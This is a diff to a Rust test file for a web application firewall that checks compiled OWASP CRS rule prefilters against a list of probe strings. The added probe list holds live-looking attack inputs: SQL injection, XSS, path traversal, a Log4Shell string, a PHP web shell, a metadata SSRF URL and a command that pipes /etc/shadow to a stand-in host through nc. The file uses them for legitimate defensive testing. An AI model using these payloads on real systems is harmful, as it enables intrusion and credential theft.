@@ -8,6 +8,7 @@ use crs_rules::{
 };
 use portcullis_waf::ast::OperatorName;
 use portcullis_waf::operator::CompiledOperator;
+use portcullis_waf::operator::{Captures, LiteralPosition};
 use std::collections::BTreeSet;
 use std::path::Path;
 
@@ -33,6 +34,7 @@ fn compile_all(dir: &str) -> Option<Report> {
         other_operators: 0,
     };
     let mut failures = Vec::new();
+    let mut prefilter_checks = 0;
     for ScannedOperator {
         file,
         rule,
@@ -71,6 +73,10 @@ fn compile_all(dir: &str) -> Option<Report> {
         {
             report.rx_direct += 1;
         }
+        if let Ok(c) = &compiled {
+            prefilter_checks +=
+                check_required_literals(&format!("{file} {rule}"), c, &mut failures);
+        }
         match compiled {
             Ok(c) if c.uses_fallback_regex() => {
                 let reason = c.rx().and_then(|r| r.fallback()).map(|f| {
@@ -90,8 +96,12 @@ fn compile_all(dir: &str) -> Option<Report> {
     }
     assert!(
         failures.is_empty(),
-        "operators that did not compile:\n{}",
+        "operator failures:\n{}",
         failures.join("\n")
+    );
+    assert!(
+        prefilter_checks > 20,
+        "the probes exercise the prefilters ({prefilter_checks})"
     );
     eprintln!(
         "{dir}: {} @rx ({} with macros, not compiled here): {} compile with `regex` as written, \
@@ -105,6 +115,64 @@ fn compile_all(dir: &str) -> Option<Report> {
         report.other_operators,
     );
     Some(report)
+}
+
+/// Values that set off many CRS rules, for the prefilter check.
+const PROBES: &[&[u8]] = &[
+    b"1' UNION SELECT username, password FROM users --",
+    b"<script>alert(document.cookie)</script>",
+    b"<img src=x onerror=alert(1)>",
+    b"../../../../etc/passwd",
+    b"; cat /etc/shadow | nc evil 4444",
+    b"${jndi:ldap://evil/a}",
+    b"<?php system($_GET['c']); ?>",
+    b"javascript:alert(1)",
+    b"' or 1=1#",
+    b"SELECT * FROM information_schema.tables WHERE 1=1",
+    b"eval(base64_decode('aGk='))",
+    b"http://169.254.169.254/latest/meta-data/",
+    b"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0",
+    b"application/x-www-form-urlencoded; charset=utf-8",
+    b"\x00\xff\xc3\xa9\n\r\t",
+    b"",
+];
+
+/// Every probe a pattern matches contains one of its required literals (ignoring ASCII case)
+/// at the stated end of the match.
+fn check_required_literals(
+    at: &str,
+    compiled: &CompiledOperator,
+    failures: &mut Vec<String>,
+) -> usize {
+    let Some(required) = compiled.required_literals() else {
+        return 0;
+    };
+    let mut checked = 0;
+    for probe in PROBES {
+        let mut captures = Captures::default();
+        if !compiled.matches(probe, Some(&mut captures)) {
+            continue;
+        }
+        checked += 1;
+        let whole = captures
+            .groups
+            .first()
+            .cloned()
+            .flatten()
+            .unwrap_or_default();
+        let whole = whole.to_ascii_lowercase();
+        let ok = required.literals.iter().any(|l| match required.position {
+            LiteralPosition::Prefix => whole.starts_with(l),
+            LiteralPosition::Suffix => whole.ends_with(l),
+        });
+        if !ok {
+            failures.push(format!(
+                "{at}: match {:?} carries none of the required literals",
+                String::from_utf8_lossy(&whole)
+            ));
+        }
+    }
+    checked
 }
 
 fn not_run(what: &str, dir: &str) {
